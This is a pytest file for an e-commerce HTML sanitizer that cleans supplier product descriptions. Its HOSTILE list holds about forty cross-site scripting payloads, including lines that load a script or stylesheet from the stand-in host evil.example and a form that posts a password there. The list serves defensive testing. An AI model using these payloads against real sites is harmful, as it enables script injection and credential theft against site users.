"""What suppliers write as markup, against those who write to harm."""

import re
import time

import pytest

from suppliers.commands import add_product
from suppliers.rules import HTML_MAX, clean_html, plain_text
from tests.factories import a_category, a_supplier

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='//evil.example/pixel.png'>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='/media/../admin/secret.png'>",
    "<img src='/media/x.svg'>",
    "<img src='/media/x.png?next=//evil.example'>",
    "<img srcset='//evil.example/x.png 2x' src='/media/x.png'>",
    "<a href='//evil.example'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video src=//evil.example autoplay></video><audio src=x onerror=alert(1)>",
    "<p onclick=alert(1) id=content class=btn>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<table><td background=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<x-evil onfocus=alert(1) autofocus tabindex=1>",
]
ALLOWED = re.compile(
    r"</?(?:p|br|hr|h3|h4|ul|ol|li|strong|b|em|i|blockquote|figure|figcaption|table|thead|tbody|tr|span)>"
    r"|</?t[dh](?: (?:col|row)span=\"\d{1,4}\")*>"
    r"|<img src=\"/media/[\w./-]+\"(?: (?:alt|width|height)=\"[^\"<>]*\")*>"
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_styles_links_or_loads_is_left(text: str) -> None:
    cleaned = clean_html(f"<p>前</p>{text}<p>后</p>")
    left = ALLOWED.sub("", cleaned)
    assert "<" not in left
    assert ">" not in left
    assert "evil.example" not in "".join(re.findall(r"<[^>]*>", cleaned))
    assert "前" in cleaned


def test_what_a_page_of_goods_needs_is_left_as_it_is() -> None:
    text = (
        "<h3>怎么泡</h3><p>水温 <strong>85℃</strong></p><ul><li>一克茶</li></ul>"
        '<table><tbody><tr><th colspan="2">规格</th></tr><tr><td>净含量</td><td>250 克</td></tr></tbody></table>'
        '<figure><img src="/media/products/long-jing/detail-750.webp" alt="茶汤"><figcaption>茶汤</figcaption></figure>'
    )
    assert clean_html(text) == text


def test_cleaning_twice_changes_nothing_more() -> None:
    for text in HOSTILE:
        once = clean_html(text)
        assert clean_html(once) == once


@pytest.mark.parametrize("tag", ["<b>", "<p>", "<table><tr><td>", "<ul><li>", "<svg>", "<div>"])
def test_tags_nested_thousands_deep_are_words_at_once(tag: str) -> None:
    text = (tag * 10_000)[: HTML_MAX - 10] + "茶"
    started = time.process_time()
    cleaned = clean_html(text)
    # What walks down from the top for every tag takes minutes.
    assert time.process_time() - started < 20
    assert "<" not in cleaned


def test_markup_longer_than_a_page_is_refused() -> None:
    with pytest.raises(ValueError, match="too long"):
        clean_html("茶" * (HTML_MAX + 1))


def test_the_search_reads_the_words_alone() -> None:
    assert plain_text("<p>狮峰<b>龙井</b> &amp; 水</p>") == "狮峰 龙井 & 水"


@pytest.mark.django_db
def test_a_product_keeps_clean_markup_alone() -> None:
    product = add_product(
        supplier=a_supplier(),
        category=a_category(),
        name="茶",
        slug="tea",
        detail=[
            {"title": "一", "html": "<p onclick=x>好<script>alert(1)</script></p>", "style": "x"},
            {"title": "二", "text": "<b>是文字</b>"},
        ],
    )
    product.refresh_from_db()
    assert product.detail == [{"title": "一", "html": "<p>好</p>"}, {"title": "二", "text": "<b>是文字</b>"}]
